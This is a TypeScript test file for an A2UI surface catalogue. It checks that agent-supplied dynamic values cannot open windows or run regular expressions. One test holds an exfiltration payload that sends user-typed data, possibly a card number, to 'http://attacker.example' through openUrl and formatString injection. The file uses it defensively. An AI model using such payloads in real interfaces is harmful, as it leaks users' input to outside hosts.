import { MessageProcessor } from "@a2ui/web_core/v0_9";
import { afterEach, expect, it, vi } from "vitest";
import { catalogue } from "./catalogue";
import { addressOf } from "./functions";

afterEach(() => void vi.unstubAllGlobals());

/** The data context of a surface with these data, and the errors of its functions. */
function surface(data: object) {
  const processor = new MessageProcessor([catalogue as never], () => {});
  processor.processMessages([
    { version: "v0.9", createSurface: { surfaceId: "s", catalogId: catalogue.id } },
    { version: "v0.9", updateDataModel: { surfaceId: "s", path: "/", value: data } },
  ] as never);
  return processor.model.getSurface("s")!;
}

it("a value of a surface opens no window, whatever calls it and however often it changes", async () => {
  const { DataContext } = await import("@a2ui/web_core/v0_9");
  const open = vi.fn();
  vi.stubGlobal("window", { open, location: { href: "http://gateway/" } });
  const model = surface({ typed: "" });
  const context = new DataContext(model, "/");
  const url = { call: "formatString", args: { value: "http://attacker.example/?typed=${/typed}" } };
  for (const value of [{ call: "openUrl", args: { url } }, { call: "formatString", args: { value: "${openUrl(url:'http://attacker.example/')}" } }]) {
    const { unsubscribe } = context.subscribeDynamicValue(value as never, () => {});
    context.set("/typed", "4111");
    context.resolveDynamicValue(value as never);
    unsubscribe();
  }
  expect(open).not.toHaveBeenCalled();
});

it("a value of a surface runs no regular expression of the agent's", async () => {
  const { DataContext } = await import("@a2ui/web_core/v0_9");
  const context = new DataContext(surface({}), "/");
  expect(context.resolveDynamicValue({ call: "regex", args: { value: "a", pattern: "a" } } as never)).toBeUndefined();
  expect(context.resolveDynamicValue({ call: "add", args: { a: 1, b: 2 } } as never)).toBe(3);
});

it("only functions that compute are in the catalogue", () => {
  expect([...catalogue.functions.keys()].sort().join(" ")).toBe(
    "add and contains divide email ends_with equals formatCurrency formatDate formatNumber formatString greater_than length less_than multiply not not_equals numeric or pluralize required starts_with subtract",
  );
});

it("an action that opens an address is known by its function", () => {
  expect(addressOf({ functionCall: { call: "openUrl", args: { url: { path: "/link" } } } })).toEqual({ path: "/link" });
  for (const other of [undefined, 7, {}, { event: { name: "book" } }, { functionCall: { call: "add", args: { url: "http://a/" } } }]) expect(addressOf(other)).toBeUndefined();
});
